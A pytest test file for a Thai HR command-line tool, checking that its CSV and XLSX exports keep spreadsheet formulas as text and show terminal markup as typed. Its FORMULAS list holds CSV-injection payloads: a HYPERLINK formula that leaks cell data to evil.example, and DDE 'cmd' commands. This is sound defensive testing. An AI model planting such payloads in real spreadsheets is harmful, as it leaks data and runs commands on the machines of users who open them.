"""Spreadsheet formulas in the data stay text in every CSV and XLSX lhrctl writes (CSV injection),
and Rich markup in it stays text on the terminal."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.cardsim import make_national_id
from tests.conftest import OFFLINE, PASSWORD, Lhr
from tests.helpers import assert_inert

FORMULAS = [
    '=HYPERLINK("http://evil.example/leak?d="&A3&B3,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]


def staff_csv(path: Path) -> Path:
    """One person per formula, the formula as their position."""
    with path.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(["เลขประจำตัวประชาชน", "คำนำหน้า", "ชื่อ", "นามสกุล", "วันเกิด", "ประเภทบุคลากร",
                      "ตำแหน่ง", "เงินเดือน"])  # fmt: skip
        for seed, formula in enumerate(FORMULAS, 500):
            out.writerow([make_national_id(seed), "นาย", "สมชาย", "ใจดี", "01/01/2520",
                          "พนักงานจ้างทั่วไป", formula, "9000"])  # fmt: skip
    return path


def write_records_csv(out: Path) -> None:
    from lhrctl.writers.records import csv_text

    out.write_text(
        csv_text([{"position": f, "salary": -5.0} for f in FORMULAS], ["position", "salary"])
    )


def write_records_xlsx(out: Path) -> None:
    from lhrctl.writers.records import write_xlsx

    write_xlsx([{"position": f, "salary": -5.0} for f in FORMULAS], ["position", "salary"], out)


def write_findings(out: Path) -> None:
    r = OFFLINE("validate", "--org", "6540206", "--format", "xlsx", "-o", str(out),
                str(staff_csv(out.with_suffix(".csv"))))  # fmt: skip
    assert r.exit_code == 0, r


def write_template(out: Path) -> None:
    from lhrctl.writers.template import write_template

    write_template(out, org_title=FORMULAS[0])


def write_booking_form(out: Path) -> None:
    from lhrctl.writers.booking_form import write_booking_form

    when = datetime(2026, 12, 3, 9, 0)
    booking = SimpleNamespace(id=1, booker=FORMULAS[1], unit=FORMULAS[2], room="8000",
                              room_name=FORMULAS[3], starts_at=when, ends_at=when,
                              participants=5, title=FORMULAS[0], state="pending")  # fmt: skip
    form = SimpleNamespace(booking=booking, booker_name=FORMULAS[1], unit_name=FORMULAS[2])
    write_booking_form(form, out)


def write_progress(out: Path) -> None:
    from lhrctl.writers.progress import write_progress_workbook

    people = {"civil_servant": 1, "permanent_employee": 0, "contract": 2}
    states = {"recording": 1, "returned": 0, "lao_certified": 0, "province_certified": 0}
    report = SimpleNamespace(
        round=SimpleNamespace(name=FORMULAS[0], lao_deadline=date(2026, 12, 31),
                              province_deadline=date(2027, 1, 31)),
        today=date(2026, 12, 2),
        provinces=[SimpleNamespace(code="54", name=FORMULAS[1], laos=1, states=states, late=0,
                                   people=people)],
        laos=[SimpleNamespace(code="6540206", name=FORMULAS[2], province_code="54",
                              state=FORMULAS[3], late=False, people=people)],
    )  # fmt: skip
    write_progress_workbook(report, out, "th")


@pytest.mark.parametrize(
    ("writer", "suffix"),
    [
        (write_records_csv, ".csv"),
        (write_records_xlsx, ".xlsx"),
        (write_findings, ".xlsx"),
        (write_template, ".xlsx"),
        (write_booking_form, ".xlsx"),
        (write_progress, ".xlsx"),
    ],
    ids=lambda v: getattr(v, "__name__", v),
)
def test_every_writer_keeps_formulas_as_text(writer, suffix: str, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / f"out{suffix}"
    writer(out)
    values = assert_inert(out)
    shown = [str(v).removeprefix("'") for v in values]
    assert any(f in v for f in FORMULAS for v in shown), "the formulas are there, as text"
    if writer is write_records_csv:  # numbers stay numbers, and the text is given back with its '
        assert "-5.0" in values and f"'{FORMULAS[1]}" in values


def test_import_keeps_a_formula_as_text_and_says_so(admin: Lhr, tmp_path: Path) -> None:
    r = admin("--json", "import", "staff", "--org", "6540206", str(staff_csv(tmp_path / "f.csv")),
              input=f"{PASSWORD}\n")  # fmt: skip
    assert r.exit_code == 0, r
    done = json.loads(r.stdout)
    assert done["new"] == len(FORMULAS)
    assert [(f["rule"], f["value"]) for f in done["findings"]] == [("LHR205", f) for f in FORMULAS]
    stored = admin.scalar("SELECT position FROM staff WHERE position LIKE '=HYPERLINK%'")
    assert stored == FORMULAS[0]  # kept exactly as typed

    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"export.{fmt}"
        r = admin("staff", "export", "--org", "6540206", "--format", fmt, "-o", str(out),
                  input=f"{PASSWORD}\n")  # fmt: skip
        assert r.exit_code == 0, r
        values = assert_inert(out)
        expected = FORMULAS if fmt == "xlsx" else [f"'{f}" for f in FORMULAS]
        assert set(expected) <= set(values)


def test_markup_in_a_file_and_its_name_is_shown_as_typed(tmp_path: Path) -> None:
    """`[/]` in a cell made Rich's markup raise (a traceback, the error handler's too); `[draft]`
    in a file's name vanished from its messages as a style."""
    folder = tmp_path / "[draft]"
    folder.mkdir()
    path = folder / "[bold]staff.csv"
    path.write_text(
        "เลขประจำตัวประชาชน,คำนำหน้า,ชื่อ,นามสกุล,วันเกิด,ประเภทบุคลากร,ตำแหน่ง,เงินเดือน\n"
        f"{make_national_id(600)},นาย,[/],[red]ใจดี,01/01/2520,พนักงานจ้างทั่วไป,คนงาน,9000\n",
        encoding="utf-8",
    )
    r = OFFLINE("validate", "--org", "6540206", str(path))
    assert r.exit_code == 1, r
    assert "│ [/] " in r.stdout and "│ [red]ใจดี " in r.stdout  # the findings' values
    assert "[bold]staff.csv: 1 row(s), 2 error(s)" in r.stderr
    assert "Error: [bold]staff.csv: 2 finding(s) at --fail-on error or worse." in r.message

    missing = folder / "[/]gone.csv"
    r = OFFLINE("--lang", "th", "validate", "--org", "6540206", str(missing))
    assert r.exit_code == 7, r  # not found
    assert "[draft]/[/]gone.csv: ไม่พบไฟล์" in r.message and "ข้อผิดพลาด:" in r.message
